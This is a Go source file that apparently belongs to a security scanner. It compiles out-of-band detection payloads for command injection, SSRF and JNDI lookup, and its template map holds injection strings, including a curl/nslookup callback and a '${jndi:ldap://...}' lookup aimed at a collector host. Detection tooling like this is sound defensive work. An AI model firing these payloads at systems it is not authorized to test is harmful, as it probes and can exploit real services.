package oob

import (
	"fmt"
	"net/url"
	"strings"
)

// Environment identifies the execution environment a payload is rendered for.
type Environment string

const (
	EnvLinuxShell   Environment = "linux_shell"
	EnvWindowsShell Environment = "windows_shell"
	EnvPHP          Environment = "php"
	EnvJVM          Environment = "jvm"
	// EnvGeneric is for payloads the target fetches rather than executes
	// (e.g. an SSRF target URL).
	EnvGeneric Environment = "generic"
)

// VulnClass selects the rendering template for a vulnerability class.
type VulnClass string

const (
	ClassCommandInjection VulnClass = "command_injection"
	ClassSSRF             VulnClass = "ssrf"
	ClassJNDILookup       VulnClass = "jndi_lookup"
)

// DeliveryMode describes how the payload must be encoded so the callback
// trigger survives transport to the point of execution.
type DeliveryMode string

const (
	// DeliveryRaw leaves the rendered payload untouched. Use when the caller's
	// own request construction performs any necessary encoding.
	DeliveryRaw DeliveryMode = "raw"
	// DeliveryShellQuoted wraps the payload in single quotes with embedded
	// quotes neutralized, for injection into an interpolated shell word.
	DeliveryShellQuoted DeliveryMode = "shell_quoted"
	// DeliveryURLEncoded percent-encodes the payload.
	DeliveryURLEncoded DeliveryMode = "url_encoded"
)

// PayloadSpec is the immutable input configuration for payload compilation,
// supplied by the calling detector.
type PayloadSpec struct {
	Environment Environment
	Class       VulnClass
	Delivery    DeliveryMode
}

// CompiledPayload is the token-bound string actually sent to the target.
// It is derived deterministically from (spec, token, callback address) and
// never mutated after creation.
type CompiledPayload struct {
	Value string
	Token CorrelationToken
	Spec  PayloadSpec
}

// AddressProvider resolves the collector endpoint a payload must call back
// to, bound to a token so the collector can attribute the interaction.
type AddressProvider interface {
	// CallbackAddress returns a schemeless host (and optional path) such as
	// "2f9c...e1.oast.example.com". Templates add their own scheme.
	CallbackAddress(token CorrelationToken) string
}

type templateKey struct {
	class VulnClass
	env   Environment
}

// payloadTemplates maps (class, environment) to a rendering template. The
// %[1]s verb receives the token-bound callback address. Requesting a pair
// with no entry fails with ErrUnsupportedEnvironment; there is deliberately
// no fallback between environments.
var payloadTemplates = map[templateKey]string{
	{ClassCommandInjection, EnvLinuxShell}:   "curl -s http://%[1]s/ || nslookup %[1]s",
	{ClassCommandInjection, EnvWindowsShell}: "nslookup %[1]s",
	{ClassCommandInjection, EnvPHP}:          "file_get_contents(\"http://%[1]s/\");",
	{ClassSSRF, EnvGeneric}:                  "http://%[1]s/",
	{ClassJNDILookup, EnvJVM}:                "${jndi:ldap://%[1]s/a}",
}

// Compiler renders token-bound payloads for a given execution environment.
type Compiler struct {
	addresses AddressProvider
}

// NewCompiler creates a Compiler that embeds callback addresses from the
// given provider.
func NewCompiler(addresses AddressProvider) *Compiler {
	return &Compiler{addresses: addresses}
}

// Compile renders the payload for spec, bound to token. Deterministic: the
// same (spec, token) always yields the same string.
func (c *Compiler) Compile(spec PayloadSpec, token CorrelationToken) (CompiledPayload, error) {
	tmpl, ok := payloadTemplates[templateKey{spec.Class, spec.Environment}]
	if !ok {
		return CompiledPayload{}, fmt.Errorf("%w: class %q in environment %q",
			ErrUnsupportedEnvironment, spec.Class, spec.Environment)
	}

	rendered := fmt.Sprintf(tmpl, c.addresses.CallbackAddress(token))
	encoded, err := encodeForDelivery(rendered, spec.Delivery)
	if err != nil {
		return CompiledPayload{}, err
	}

	return CompiledPayload{Value: encoded, Token: token, Spec: spec}, nil
}

func encodeForDelivery(rendered string, mode DeliveryMode) (string, error) {
	switch mode {
	case DeliveryRaw, "":
		return rendered, nil
	case DeliveryShellQuoted:
		return shellQuote(rendered), nil
	case DeliveryURLEncoded:
		return url.QueryEscape(rendered), nil
	default:
		return "", fmt.Errorf("unknown delivery mode %q", mode)
	}
}

// shellQuote single-quotes s for a POSIX shell, neutralizing embedded quotes.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
